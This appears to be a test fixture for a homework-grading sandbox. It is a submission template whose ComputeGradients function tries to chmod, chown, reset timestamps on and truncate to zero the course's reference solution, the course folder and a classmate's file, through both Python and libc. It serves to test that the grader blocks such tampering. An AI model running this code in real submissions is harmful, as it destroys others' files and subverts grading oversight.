"""Attack `chmod_chown_outside`: the hw2_affine reference with ComputeGradients replaced by the attack.

Changes the metadata of files outside the working folder: the course's
reference, the course folder, the original submission and the classmate's
file, through Python (os.chmod, os.chown, os.utime, os.truncate) and through
libc (chmod, chown, lchown, utimes, truncate, fchmodat).

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]

TARGETS = ["@COURSE@/reference/hw2_affine/solution.py", "@COURSE@", "@COURSE@/reference",
           "@FOLDER@/homework2_affine_classmate.py", "@FOLDER@", *CANARIES]


def ComputeGradients(L, x, z):
    for target in TARGETS:
        raw = os.fsencode(target)
        for label, attempt in (("os.chmod", lambda: os.chmod(target, 0o777)),
                               ("os.chown", lambda: os.chown(target, 12345, 12345)),
                               ("os.utime", lambda: os.utime(target, (0, 0))),
                               ("os.truncate", lambda: os.truncate(target, 0))):
            try:
                attempt()
                say(label, target, "CHANGED")
            except OSError as exc:
                say(label, target, type(exc).__name__)
        for label, result in (("chmod", libc.chmod(raw, 0o777)), ("chown", libc.chown(raw, 12345, 12345)),
                              ("lchown", libc.lchown(raw, 12345, 12345)), ("utimes", libc.utimes(raw, None)),
                              ("fchmodat", libc.fchmodat(-100, raw, 0o600, 0)), ("truncate", libc.truncate(raw, 0))):
            say("libc", label, target, "CHANGED" if result == 0 else errno_text())
    return None
